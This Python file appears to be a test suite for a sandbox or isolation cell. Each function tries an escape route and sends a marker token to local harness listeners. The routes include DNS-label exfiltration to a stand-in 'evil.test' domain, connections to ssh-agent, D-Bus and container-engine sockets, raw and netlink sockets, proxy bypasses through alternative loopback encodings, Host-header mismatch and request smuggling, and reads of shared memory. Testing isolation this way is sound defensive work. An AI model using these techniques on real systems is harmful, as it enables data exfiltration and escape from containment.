"""The network, and what talks like one: sockets with a name, shared memory, queues."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import socket
import struct
import time

from tests.hostile.attacks.kit import X86, Held, Lack, T, attack, checked, libc, read, secret_in, token

WITHIN = 3.0
IPPROTO_MPTCP = 262
NETLINK_KOBJECT_UEVENT, NETLINK_SOCK_DIAG = 15, 4


def say(address: tuple[str, int], name: str, family: int = socket.AF_INET, protocol: int = 0) -> None:
    with socket.socket(family, socket.SOCK_STREAM, protocol) as client:
        client.settimeout(WITHIN)
        client.connect(address)
        client.sendall(token(name).encode())


@attack
def tcp_loopback() -> None:
    say(("127.0.0.1", T["tcp"]), "tcp_loopback")


@attack
def tcp_loopback_6() -> None:
    if not T["tcp6"]:
        raise Lack("there is no IPv6 here")
    say(("::1", T["tcp6"]), "tcp_loopback_6", socket.AF_INET6)


@attack
def tcp_mapped_loopback() -> None:
    if not T["tcp6"]:
        raise Lack("there is no IPv6 here")
    say(("::ffff:127.0.0.1", T["tcp"]), "tcp_mapped_loopback", socket.AF_INET6)


@attack
def tcp_metadata_address() -> None:
    """Where clouds tell machines their secrets; here an address of the loopback's that is never anybody's."""
    say(("127.169.169.254", T["tcp_metadata"]), "tcp_metadata_address")


@attack
def tcp_by_fast_open() -> None:
    with socket.socket() as client:
        client.sendto(token("tcp_by_fast_open").encode(), socket.MSG_FASTOPEN, ("127.0.0.1", T["tcp"]))


@attack
def tcp_by_mptcp() -> None:
    try:
        say(("127.0.0.1", T["tcp"]), "tcp_by_mptcp", protocol=IPPROTO_MPTCP)
    except OSError as error:
        if T["outside"] and error.errno in (92, 93):  # ENOPROTOOPT, EPROTONOSUPPORT
            raise Lack("the kernel has no MPTCP") from error
        raise


@attack
def udp_loopback() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as client:
        client.sendto(token("udp_loopback").encode(), ("127.0.0.1", T["udp"]))


@attack
def dns_exfiltration() -> None:
    """A query whose name carries data; to a resolver of ours on the loopback."""
    label = token("dns_exfiltration").encode()
    query = b"\x12\x34\x01\0\0\x01" + bytes(6) + bytes([len(label)]) + label + b"\x04evil\x04test\0\0\x01\0\x01"
    with socket.socket(type=socket.SOCK_DGRAM) as client:
        client.sendto(query, ("127.0.0.1", T["udp"]))


@attack
def listen_on_the_host() -> None:
    with socket.create_server(("127.0.0.1", T["to_listen"])) as server:
        server.settimeout(1)
        peer, _ = server.accept()
        with peer:
            peer.settimeout(1)
            peer.sendall(token("listen_on_the_host").encode())
            time.sleep(0.05)


@attack
def see_interfaces() -> None:
    if [name for _, name in socket.if_nameindex()] == ["lo"]:
        if T["outside"]:
            raise Lack("the host has none but lo")
        raise Held("there is lo alone")


@attack
def see_connections() -> None:
    if f":{T['tcp']:04X} ".encode() not in read("/proc/self/net/tcp"):
        raise Held("they are not the host's")


@attack
def see_unix_sockets() -> None:
    found = b"".join(read("/proc/self/net/unix").split(b"\n"))
    if T["abstract"].encode() not in found:
        raise Held("they are not the host's")


@attack
def abstract_socket() -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(WITHIN)
        client.connect(f"\0{T['abstract']}")
        client.sendall(token("abstract_socket").encode())


@attack
def abstract_datagram() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        client.sendto(token("abstract_datagram").encode(), f"\0{T['abstract']}-d")


def named(path: str, name: str) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(WITHIN)
        client.connect(path)
        client.sendall(token(name).encode())


@attack
def ssh_agent_socket() -> None:
    named(T["sockets"]["ssh"], "ssh_agent_socket")


@attack
def session_bus_socket() -> None:
    named(T["sockets"]["bus"], "session_bus_socket")


@attack
def container_engine_socket() -> None:
    named(T["sockets"]["engine"], "container_engine_socket")


@attack
def real_system_sockets() -> None:
    """Whichever of the usual ones this host has."""
    usual = ("/run/dbus/system_bus_socket", "/run/docker.sock", "/run/systemd/private", "/run/user", "/run/udev")
    found = [path for path in usual if os.path.exists(path)]
    if not found:
        if T["outside"]:
            raise Lack("this host has none of them")
        raise Held("there are none")


def open_socket(family: int, kind: int, protocol: int = 0) -> None:
    socket.socket(family, kind, protocol).close()


@attack
def raw_socket() -> None:
    open_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack
def packet_socket() -> None:
    open_socket(socket.AF_PACKET, socket.SOCK_RAW)


def maybe(family: int, kind: int, protocol: int = 0) -> None:
    try:
        open_socket(family, kind, protocol)
    except OSError as error:
        if T["outside"] and error.errno in (93, 94, 97):  # protocol, type or family not supported
            raise Lack("the kernel has no such sockets") from error
        raise


@attack
def vsock_socket() -> None:
    maybe(socket.AF_VSOCK, socket.SOCK_STREAM)


@attack
def crypto_socket() -> None:
    maybe(socket.AF_ALG, socket.SOCK_SEQPACKET)


@attack
def uevent_socket() -> None:
    maybe(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_KOBJECT_UEVENT)


@attack
def socket_diagnosis() -> None:
    maybe(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG)


@attack
def rare_families() -> None:
    """Any of those that live in modules which the kernel loads for whoever asks."""
    for family in (3, 4, 5, 6, 9, 11, 21, 26, 29, 30, 31, 35, 36, 37, 39, 43, 44):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
            try:
                open_socket(family, kind)
            except OSError:
                continue
            return
    if T["outside"]:
        raise Lack("the kernel has none of them")
    raise Held("none can be opened")


# By the cell's proxy; outside by one that forwards everything.


def by_proxy(request: str, name: str, tunnel: bool) -> None:
    with socket.create_connection(("127.0.0.1", T["proxy"]), WITHIN) as proxy:
        proxy.settimeout(WITHIN)
        body = token(name)
        proxy.sendall(request.replace("LENGTH", str(len(body))).encode() + (b"" if tunnel else body.encode()))
        if tunnel:
            answer = proxy.recv(4096)
            if b" 200 " not in answer.split(b"\r\n")[0] + b" ":
                raise Held(answer.split(b"\r\n")[0].decode(errors="replace") or "it hung up")
            proxy.sendall(body.encode())
        # What it answers does not matter: whether the mark was heard outside does.
        with contextlib.suppress(OSError):
            proxy.recv(4096)


def tunnel(host: str, name: str, key: str = "tcp") -> None:
    by_proxy(f"CONNECT {host}:{T[key]} HTTP/1.1\r\nHost: {host}:{T[key]}\r\n\r\n", name, tunnel=True)


def forward(host: str, name: str, key: str = "tcp", seen: str = "") -> None:
    head = f"POST http://{host}:{T[key]}/ HTTP/1.1\r\nHost: {seen or f'{host}:{T[key]}'}\r\nContent-Length: LENGTH\r\n"
    by_proxy(head + "Connection: close\r\n\r\n", name, tunnel=False)


@attack
def proxy_tunnel_to_loopback() -> None:
    tunnel("127.0.0.1", "proxy_tunnel_to_loopback")


@attack
def proxy_to_loopback() -> None:
    forward("127.0.0.1", "proxy_to_loopback")


@attack
def proxy_to_localhost() -> None:
    forward("localhost", "proxy_to_localhost")


@attack
def proxy_to_decimal_address() -> None:
    forward("2130706433", "proxy_to_decimal_address")


@attack
def proxy_to_short_address() -> None:
    forward("127.1", "proxy_to_short_address")


@attack
def proxy_to_mapped_address() -> None:
    forward("[::ffff:127.0.0.1]", "proxy_to_mapped_address")


@attack
def proxy_to_any_address() -> None:
    forward("0.0.0.0", "proxy_to_any_address")


@attack
def proxy_to_metadata_address() -> None:
    forward("127.169.169.254", "proxy_to_metadata_address", "tcp_metadata")


@attack
def proxy_with_another_host_header() -> None:
    """The header names what is allowed, the line what is wanted."""
    forward("127.0.0.1", "proxy_with_another_host_header", seen=f"127.0.0.1:{T['allowed']}")


@attack
def proxy_by_second_request() -> None:
    """An allowed request, and one behind it in the same connection that is not."""
    body = token("proxy_by_second_request")
    first = f"GET http://127.0.0.1:{T['allowed']}/ HTTP/1.1\r\nHost: 127.0.0.1:{T['allowed']}\r\n\r\n"
    second = f"POST http://127.0.0.1:{T['tcp']}/ HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    with socket.create_connection(("127.0.0.1", T["proxy"]), WITHIN) as proxy:
        proxy.settimeout(WITHIN)
        proxy.sendall((first + second).encode())
        with contextlib.suppress(OSError):
            while proxy.recv(4096):
                continue


@attack
def proxy_to_what_is_allowed() -> None:
    forward("127.0.0.1", "proxy_to_what_is_allowed", "allowed")


@attack
def proxy_raw_bytes_to_what_is_allowed() -> None:
    """A tunnel that carries no TLS: any protocol at all."""
    tunnel("127.0.0.1", "proxy_raw_bytes_to_what_is_allowed", "allowed")


# What the kernel shares between processes.


@attack
def shared_memory() -> None:
    libc.shmat.restype = ctypes.c_void_p
    where = libc.shmat(T["shm"], None, 0o10000)
    if where in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    secret_in(ctypes.string_at(where, 64))


@attack
def message_queue() -> None:
    found = ctypes.create_string_buffer(80)
    checked(libc.msgrcv(T["msg"], found, ctypes.c_size_t(64), ctypes.c_long(0), 0o4000))
    secret_in(found.raw)


@attack
def semaphore() -> None:
    checked(libc.semctl(T["sem"], 0, 16, 1))  # SETVAL


@attack
def remove_shared_memory() -> None:
    checked(libc.shmctl(T["shm_to_remove"], 0, None))


@attack
def posix_queue() -> None:
    number = 240 if X86 else 180
    queue = checked(int(libc.syscall(ctypes.c_long(number), T["mq"].encode(), os.O_RDWR, 0, None)))
    os.close(queue)


@attack
def count_shared_memory_of_the_host() -> None:
    """/proc/sysvipc shows every segment of the namespace."""
    if not [line for line in read("/proc/sysvipc/shm").splitlines()[1:] if int(line.split()[1]) == T["shm"]]:
        raise Held("they are not the host's")


@attack
def interface_by_ioctl() -> None:
    """The flags of one of the host's, by the old way."""
    if T["outside"] and not T["interface"]:
        raise Lack("the host has none but lo")
    with socket.socket(type=socket.SOCK_DGRAM) as client:
        fcntl.ioctl(client, 0x8913, struct.pack("256s", (T["interface"] or "eth0").encode()))
